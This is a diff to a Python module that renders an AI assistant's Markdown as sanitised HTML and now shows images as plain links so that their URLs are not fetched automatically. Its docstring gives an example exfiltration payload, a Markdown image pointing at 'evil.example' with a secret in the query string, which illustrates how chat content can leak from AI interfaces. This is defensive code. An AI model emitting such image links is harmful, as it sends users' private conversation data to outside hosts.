@@ -1,24 +1,52 @@
 """Assistant Markdown to safe HTML: markdown-it-py renders, nh3 (ammonia) sanitises.
 
 Raw HTML in the Markdown is escaped rather than passed through, and the sanitiser keeps only
-formatting tags. Images are not allowed at all: an image URL fetched by the reader's browser
-could carry chat content to another host.
+formatting tags. Images are never loaded: an image URL fetched by the reader's browser could
+carry chat content to another host (``![a](https://evil.example/?q=<secret>)``). A Markdown
+image is shown as a link labelled with its alt text instead, so the reader still sees it and
+the URL is only fetched if they follow it.
 """
 
 from __future__ import annotations
 
 import re
+from collections.abc import Sequence
 from dataclasses import dataclass
 from functools import lru_cache
 
 import nh3
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
 
 _md = (
     MarkdownIt("commonmark", {"html": False, "linkify": False})
     .enable("table")
     .enable("strikethrough")
 )
+
+
+def _image_as_link(
+    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
+) -> str:
+    """Render an image as a link to it, labelled with its alt text (or its URL). Inside a link
+    (``[![alt](src)](href)``) only the label is written: links do not nest."""
+    token = tokens[idx]
+    src = token.attrGet("src") or ""
+    label = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
+    depth = 0
+    for previous in tokens[:idx]:
+        depth += {"link_open": 1, "link_close": -1}.get(previous.type, 0)
+    if depth > 0:
+        return label
+    title = token.attrGet("title")
+    title_attr = f' title="{escapeHtml(title)}"' if title else ""
+    return f'<a href="{escapeHtml(src)}"{title_attr}>{label}</a>'
+
+
+_md.add_render_rule("image", _image_as_link)
 
 ALLOWED_TAGS = {
     "a", "p", "br", "hr", "strong", "em", "del", "code", "pre", "blockquote",
